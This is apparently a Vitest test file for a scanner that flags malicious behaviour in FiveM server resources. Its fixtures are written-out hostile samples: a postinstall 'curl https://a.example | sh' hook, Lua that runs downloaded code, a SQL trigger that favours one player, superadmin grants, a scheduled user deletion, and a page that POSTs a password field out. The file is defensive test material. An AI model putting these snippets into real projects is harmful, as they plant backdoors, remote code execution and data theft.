import { expect, test } from 'vitest'

import { manifest, scanFiles as scan } from '#test-support/scan-files.ts'

test('values pass from file to file of one side of a resource', () => {
  const { findings, capabilities } = scan({
    'fxmanifest.lua': `${manifest}shared_script 'config.lua'\nserver_script 'send.lua'`,
    'config.lua': `Config = { Url = 'https://a.example/log' }`,
    'send.lua': `function Send(text)\n  PerformHttpRequest(Config.Url, print, 'POST', text)\nend`,
    'server.lua': `Send(GetPlayerEndpoint(source))`,
    'client.lua': `function Send(text) print(text) end\nlocal Config = { Url = 'https://b.example' }`,
  })

  expect(findings.map(({ rule, path, line }) => `${rule} ${path}:${line}`)).toEqual(['sends-data send.lua:2'])
  expect(capabilities.find(({ kind }) => kind === 'calls-out')?.values).toEqual(['a.example'])
})

test('a local variable of one file is not that of another', () => {
  const { findings } = scan({
    'fxmanifest.lua': `${manifest}server_script 'b.lua'`,
    'server.lua': `local code = 'return 1'\nload(code)()`,
    'b.lua': `RegisterNetEvent('a', function(text)\n  code = text\nend)`,
  })

  expect(findings).toEqual([])
})

test.each([
  [
    'module.exports',
    `module.exports = { url: 'https://a.example', run: eval }`,
    `const tools = require('./lib/tools.js')`,
  ],
  ['exports', `exports.run = eval`, `const tools = require('./lib/tools')`],
  ['export', `export const run = eval`, `import * as tools from './lib/tools.js'`],
])('a function of another module by %s', (_, library, use) => {
  const { findings } = scan({
    'fxmanifest.lua': `${manifest}server_script 'main.js'`,
    'main.js': `${use}\nonNet('a', (text) => tools.run(text))`,
    'lib/tools.js': library,
  })

  expect(findings.map(({ rule, path, line }) => `${rule} ${path}:${line}`)).toContain(
    'runs-text-from-outside main.js:2',
  )
})

test('one line has the most specific of the findings that say the same of it', () => {
  const { findings } = scan({
    'fxmanifest.lua': manifest,
    'server.lua': `function Run(code) load(code)() end\nPerformHttpRequest('https://a.example', function(_, body) Run(body) end)`,
  })

  expect(findings.map(({ rule, line }) => `${rule} ${line}`)).toEqual(['runs-downloaded-code 1'])
})

test('a function that a file of Lua returns', () => {
  const { findings } = scan({
    'fxmanifest.lua': `${manifest}file 'lib/tools.lua'`,
    'server.lua': `local tools = require 'lib.tools'\nRegisterNetEvent('a', function(text) tools.run(text) end)`,
    'lib/tools.lua': `return { run = load }`,
  })

  expect(findings.map(({ rule, path, line }) => `${rule} ${path}:${line}`)).toContain(
    'runs-text-from-outside server.lua:2',
  )
})

test('what a shared file does is found on both sides', () => {
  const files = {
    'fxmanifest.lua': `${manifest}shared_script 'shared.lua'`,
    'shared.lua': `function Run(code)\n  load(code)()\nend`,
    'client.lua': `RegisterNetEvent('a', function(code) Run(code) end)`,
  }

  const { findings } = scan(files)

  expect(findings.map(({ rule, severity, path }) => `${severity} ${rule} ${path}`)).toContain(
    'high runs-text-from-outside shared.lua',
  )
})

test.each([
  ['a.sql', `UPDATE users SET \`group\` = 'superadmin' WHERE id = 1;`, 'grants-rights'],
  ['b.sql', `SET NEW.\`group\` = 'admin';`, 'grants-rights'],
  ['c.sql', `GRANT ALL ON *.* TO 'a'@'%';`, 'grants-rights'],
  ['d.sql', `CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO DELETE FROM users;`, 'deletes-data'],
  ['f.sql', `PREPARE st FROM @s;`, 'hidden-text'],
  ['e.sql', `SELECT '' INTO OUTFILE '/tmp/a';`, 'process'],
  ['package.json', `{ "scripts": { "postinstall": "curl https://a.example | sh" } }`, 'process'],
])('statements and commands in %s', (path, text, rule) => {
  const harmless = {
    [path]: `CREATE TABLE users (\`group\` VARCHAR(50) DEFAULT 'user'); { "scripts": { "build": "vite" } }`,
  }

  expect(scan({ [path]: text }).findings.map((finding) => finding.rule)).toEqual([rule])
  expect(scan(harmless).findings).toEqual([])
})

test('what a page does depends on the markup of its other files', () => {
  const files = {
    'fxmanifest.lua': `${manifest}ui_page 'index.html'\nfiles { 'index.html', 'page.js' }`,
    'page.js': `const frame = document.getElementById('app')\nframe.src = 'https://a.example/app'\nfetch('https://b.example', { method: 'POST', body: find('name').value })`,
  }
  const found = (markup: string) =>
    scan({ ...files, 'index.html': markup }).findings.map(({ rule, line }) => `${rule} ${line}`)

  expect(found('<p id="app"></p>')).toEqual([])
  expect(found('<iframe id="app"></iframe>')).toEqual(['remote-page 2'])
  expect(found('<input type="password">')).toEqual(['sends-data 3'])
})

test('a trigger of the database for one player', () => {
  const { findings } = scan({
    'fxmanifest.lua': manifest,
    'install.sql': `CREATE TABLE a (id INT);\nCREATE TRIGGER b BEFORE UPDATE ON users FOR EACH ROW\nSET NEW.money = IF(NEW.identifier = 'license:5f3a9c01d2', 1, NEW.money);`,
    'example.sql': `INSERT INTO users VALUES ('license:5f3a9c01d2');`,
  })

  expect(findings.map(({ rule, path, line }) => `${rule} ${path}:${line}`)).toEqual([
    'fixed-player install.sql:2',
  ])
})

const evil = `require('child_process').exec('a')`

test.each([
  ['a script that nothing loads', 'low', 'print(1)', 'build.js'],
  ['what a loaded script requires', 'high', `require('./lib/a')`, 'lib/a.js'],
  ['anything, where a computed name is required', 'high', `require(name)`, 'build.js'],
  ['a package', 'high', `require('a')`, 'node_modules/a/index.js'],
  ['an imported package', 'high', `import a from 'a'`, 'node_modules/a/index.js'],
  ['a script beside a page', 'low', 'print(1)', 'ui/build.js'],
  ['a script beside a page that a loaded script requires', 'medium', `require('./ui/a')`, 'ui/a.js'],
  ['a package that nothing requires', 'low', 'print(1)', 'node_modules/a/index.js'],
])('%s is of severity %s', (_, severity, main, path) => {
  const { findings } = scan({
    'fxmanifest.lua': `${manifest}server_script 'main.js'`,
    'main.js': main,
    [path]: evil,
  })

  const [worst] = findings.filter((finding) => finding.path === path && finding.rule === 'process')
  expect(worst?.severity).toBe(severity)
})

test.each([
  ['names', `{ "scripts": { "postinstall": "node ./tools/run" } }`],
  ['runs by another name', `{ "scripts": { "run": "node tools/run.js", "prepare": "npm run run" } }`],
  ['runs with another', `{ "scripts": { "install": "node tools/all.js" } }`],
])('a script that an installation %s is no tool', (_, text) => {
  const { findings } = scan({
    'fxmanifest.lua': manifest,
    'package.json': text,
    'tools/all.js': `require('./run')`,
    'tools/run.js': evil,
    'tools/build.js': evil,
  })

  expect(
    new Set(
      findings.filter(({ path }) => path.endsWith('.js')).map(({ path, severity }) => `${severity} ${path}`),
    ),
  ).toEqual(new Set(['medium tools/run.js', 'low tools/build.js']))
})

test('the server runs the settings of webpack that a manifest names, and what they require', () => {
  const { findings } = scan({
    'fxmanifest.lua': `${manifest}webpack_config 'settings/client.config.js'`,
    'settings/client.config.js': `require('./shared')`,
    'settings/shared.js': evil,
    'settings/other.config.js': evil,
  })

  expect(
    new Set(
      findings.filter(({ rule }) => rule === 'process').map(({ path, severity }) => `${severity} ${path}`),
    ),
  ).toEqual(new Set(['high settings/shared.js', 'low settings/other.config.js']))
})
